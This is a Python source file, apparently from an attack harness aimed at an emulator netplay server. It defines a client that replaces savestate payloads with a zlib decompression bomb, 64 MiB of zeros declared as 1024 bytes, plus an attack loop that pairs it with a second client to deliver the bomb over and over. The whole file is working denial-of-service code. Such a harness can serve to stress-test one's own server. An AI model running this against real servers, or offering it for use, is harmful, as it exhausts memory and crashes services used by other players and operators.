import struct
import zlib

from abuse.attack import Attack, netplay_client

PACKED = zlib.compress(bytes(64 << 20))


class Bomber(netplay_client.Client):
    """Gives a state that inflates to far more than it says."""

    thrown = 0

    def say(self, number, payload=b""):
        if number == netplay_client.LOAD_SAVESTATE:
            payload = payload[:4] + struct.pack(">I", 1024) + PACKED
            Bomber.thrown += 1
        super().say(number, payload)


class Bomb(Attack):
    name = "bomb"
    what = "serves states that inflate to far more than they say"

    def run(self):
        while not self.stop.is_set():
            source = self.source()
            content = 0xB0B0 + self.count % 64
            pair = [self.member(source, Bomber, nick="bomb", crc=content)]
            self.pump([one for one in pair if one], 0.1)
            pair.append(self.member(source, nick="other", crc=content))
            pair = [one for one in pair if one]
            self.pump(list(pair), 0.2)
            for one in pair:
                one.close()
            self.deeds = Bomber.thrown
